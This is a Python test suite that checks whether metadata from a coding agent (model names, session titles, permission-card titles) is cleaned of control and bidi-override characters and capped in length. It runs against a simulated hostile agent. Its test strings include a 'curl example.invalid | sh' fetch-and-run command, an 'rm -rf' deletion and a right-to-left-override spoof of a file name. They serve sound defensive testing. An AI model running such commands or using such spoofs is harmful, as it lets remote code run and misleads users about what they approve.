"""Agent-supplied text shown as metadata (session titles, model and option names, sign-in methods) is
cleaned and capped, and an agent's lists are bounded: first the pure functions, then over the real
wire against `tests/support/hostile_agent.py metadata` (titles and names with control characters, bidi
overrides and 10,000 characters; 20,000 models).
"""

from __future__ import annotations

import json
import re
import sys
from pathlib import Path

import trio

from protocol.acp.agent_options import choices_from_json, choices_to_json, read_choices
from protocol.acp.agent_text import MAX_ENTRIES, MAX_SHOWN, is_shown_as_is, shown, shown_whole
from protocol.acp.model_configuration import BYPASS_NOTE, MAX_SCHEMA_CHARS
from protocol.vscode.lm import AGENT_ACTION_TOOL
from symposium.client import AGENT_ACTION_TOOL_DEF, BackendClient, process_agent, user

HERE = Path(__file__).parents[1] / "support"
HOSTILE = process_agent("hostile", sys.executable, [str(HERE / "hostile_agent.py"), "metadata"])
GUARD = 30
# What must never reach the extension in a shown text: controls, line breaks, bidi controls, invisibles.
UNSHOWABLE = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200b\u200e\u200f\u202a-\u202e\u2060-\u2064\u2066-\u206f\ufeff\U000e0000-\U000e007f]")
# What `shown` makes of the hostile agent's HOSTILE text.
CLEANED = "evil [31mred [0m next line hidden xxx"


def assert_showable(text: str, limit: int = MAX_SHOWN) -> None:
    assert not UNSHOWABLE.search(text), repr(text[:80])
    assert len(text) <= limit, len(text)


# The pure functions -----------------------------------------------------------------------------


def test_shown_text_has_no_controls_no_bidi_and_at_most_200_characters() -> None:
    assert shown("\u202eevil\u202c \x1b[31mred\x1b[0m\r\nnext\tline\u2066 \u200bhidden\U000e0041") == "evil [31mred [0m next line hidden"
    assert shown("  Claude Sonnet 4.5  ") == "Claude Sonnet 4.5"
    assert shown("👨\u200d👩\u200d👧 famille") == "👨\u200d👩\u200d👧 famille"  # joiners kept: emoji need them
    long = shown("word " * 1000)
    assert len(long) == MAX_SHOWN and long.endswith("…")
    assert shown(None) == shown(3) == shown({"a": 1}) == ""
    assert is_shown_as_is("claude-sonnet-4-5") and not is_shown_as_is("spoof\u202egpj.exe") and not is_shown_as_is("") and not is_shown_as_is("y" * 201)


def test_a_permission_cards_title_is_cleaned_but_whole() -> None:
    # Gemini CLI's card title is the command itself: a line break or its 300th character matters.
    command = "echo ok\r\nrm -rf build\t# " + "y" * 300 + "; curl example.invalid | sh"
    assert shown_whole(command) == "echo ok\nrm -rf build\t# " + "y" * 300 + "; curl example.invalid | sh"
    assert shown_whole("\u202eexe.txt\u202c run\x1b[2J\u2028next") == "exe.txt run [2J\nnext"
    assert shown_whole(None) == ""


def test_an_agent_offering_20000_models_offers_100_with_clean_names() -> None:
    models = [{"modelId": f"m{i}", "name": f"\u202eModel\x1b {i}", "description": "d" * 5000} for i in range(20_000)]
    models.insert(0, {"modelId": "spoof\u202egpj.exe", "name": "spoof"})
    options = [{"id": f"o{i}", "name": f"Option {i}", "type": "boolean", "currentValue": True} for i in range(500)]
    choices = read_choices({"models": {"availableModels": models, "currentModelId": "spoof\u202egpj.exe"}, "configOptions": options})
    [model] = [c for c in choices if c.category == "model"]
    assert len(model.values) == MAX_ENTRIES
    assert [v.value for v in model.values[:2]] == ["m0", "m1"]  # the spoofed id is not offered
    assert model.values[0].name == "Model 0" and len(model.values[0].description) == MAX_SHOWN
    assert model.current is None
    assert len(choices) == MAX_ENTRIES and choices[-1] is model  # 99 options, and the models
    # A cache written before the bounds existed is read with them.
    old = choices_to_json(choices)
    old[-1]["values"] = [{"value": f"m{i}", "name": f"\u202e{i}", "description": ""} for i in range(20_000)]
    [cached] = [c for c in choices_from_json(old) if c.category == "model"]
    assert len(cached.values) == MAX_ENTRIES and cached.values[5].name == "5"


# Over the wire ----------------------------------------------------------------------------------


async def test_the_model_list_of_an_agent_offering_20000_hostile_models_is_bounded(backend: BackendClient) -> None:
    entry = {"id": "hostile", "name": "\u202eHostile\u2066", "agent": HOSTILE}  # as an old catalogue may have named it
    with trio.fail_after(GUARD):
        answer = await backend.chat([user("hello")], agent=HOSTILE, model_id="hostile")
        assert answer.error is None and answer.text() == "echo: hello"
        models = await backend.models([entry])
        options = await backend.agent_options(HOSTILE)
    ours = [m for m in models if m["id"] == "hostile" or m["id"].startswith("hostile/")]
    assert len(ours) == 1 + MAX_ENTRIES
    assert ours[1]["id"] == "hostile/model-0" and ours[1]["name"].startswith(f"Hostile · {CLEANED}")
    for model in ours:
        assert is_shown_as_is(model["id"])
        for field in ("name", "detail", "tooltip"):
            assert_showable(model.get(field) or "", limit=len("Hostile · ") + MAX_SHOWN)
    # It was 21.5 MB. Each of the 101 entries carries the agent's options as its controls, bounded.
    assert all(len(json.dumps(m.get("configurationSchema", {}))) <= MAX_SCHEMA_CHARS for m in ours)
    assert len(json.dumps(models)) < 101 * (1_000 + MAX_SCHEMA_CHARS)
    for prop in ours[0]["configurationSchema"]["properties"].values():
        for text in (prop["title"], *prop["enumItemLabels"], *prop["enumDescriptions"]):
            assert_showable(text, limit=len(" (bypasses permissions)") + len(BYPASS_NOTE) + 2 + MAX_SHOWN)
    texts = [o["name"] for o in options["options"]] + [v[f] for o in options["options"] for v in o["values"] for f in ("name", "description")]
    for text in texts:
        assert_showable(text)
    assert {o["id"] for o in options["options"]} == {"effort", "mode", "model"}


async def test_session_titles_and_sign_in_methods_are_cleaned_and_capped(backend: BackendClient, tmp_path: Path) -> None:
    with trio.fail_after(GUARD):
        prepared = await backend.prepare(HOSTILE, model_id="hostile", cwd=str(tmp_path))
        listing = await backend.list_sessions(HOSTILE, cwd=str(tmp_path))
    assert listing["supported"] is True
    assert [s["sessionId"] for s in listing["sessions"]] == ["s-0", "s-1", "s-2"]  # not the one whose id would need cleaning
    for session in listing["sessions"]:
        assert session["title"].startswith(CLEANED) and session["title"].endswith("…") and len(session["title"]) == MAX_SHOWN
        assert session["updatedAt"] == "2026-11-25T10:00:00Z"
        assert session["cwd"] == str(tmp_path)
    [method] = prepared["authMethods"]
    assert method["id"] == "login"
    for text in (method["name"], method["description"], *prepared["agentInfo"].values()):
        assert_showable(text)
    assert prepared["agentInfo"]["version"] == "1.0"


async def test_the_titles_of_an_agents_tool_calls_and_permission_cards_are_cleaned(backend: BackendClient) -> None:
    # The card's title is what the user reads before allowing: a bidi override there could make a
    # command read as another. The command itself is shown in full below it, from `raw_input`.
    with trio.fail_after(GUARD):
        asked = await backend.chat([user("titled")], agent=HOSTILE, model_id="hostile", tools=[AGENT_ACTION_TOOL_DEF])
    assert asked.error is None, asked.error
    [card] = [p for p in asked.parts if p["type"] == "tool_call"]
    assert card["toolName"] == AGENT_ACTION_TOOL
    title, kind = card["parameters"]["title"], card["parameters"]["kind"]
    assert kind.startswith(CLEANED)
    assert_showable(kind)
    # The title is cleaned but whole, line breaks kept: cutting it could hide part of a command.
    assert title == "evil  [31mred [0m\nnext line hidden " + "x" * 10_000, repr(title[:60])
    assert card["parameters"]["raw_input"] == {"command": "ls"}
    [status] = [line for line in asked.text().splitlines() if line.startswith("✓")]
    assert status.startswith(f"✓ {CLEANED}")
    assert_showable(status, limit=2 + MAX_SHOWN)
